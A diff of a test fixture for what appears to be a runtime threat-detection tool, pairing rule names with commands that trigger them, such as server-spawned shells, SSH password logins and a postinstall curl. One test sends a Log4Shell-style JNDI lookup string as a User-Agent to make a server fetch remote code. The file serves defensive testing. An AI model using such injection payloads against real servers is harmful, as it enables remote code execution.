@@ -1,12 +1,10 @@
 ## Shell started by a network server
 server 'true'
 ## Shell started by an application in a container
-#also Right of root used for the first time by an image
 #also Suspicious Process Execution
 #in shop:1
 node -e 'require("child_process").execSync("true")'
 ## Interpreter started by a network server in a container
-#also Right of root used for the first time by an image
 #also Right over the host used by a server's command in a container
 #also Suspicious Process Execution
 #in shop:1
@@ -21,14 +19,19 @@ evince -c 'sh -c true; true'
 sh -c 'curl -s http://10.9.8.7/ || true; : postinstall'
 ## Root login over SSH with a password
 #also Login from the internet with a password
+#also Login that checks nobody's identity
 #setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
 login right root; end_log
 ## Login from the internet with a password
+#also Login that checks nobody's identity
 #setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
 login right ann; end_log
 ## Attack on a library seen in a log
+#also Attack in the text of a request
+#also Server stopped by hand
+#also Transfer tool given a bare private address and a scratch folder
 #setup start_log
 #setup mkdir -p /var/lib/nginx; printf 'events {}\nhttp { access_log /var/log/nginx/access.log; server { listen 80; } }\n' > /srv/nginx.conf
 nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
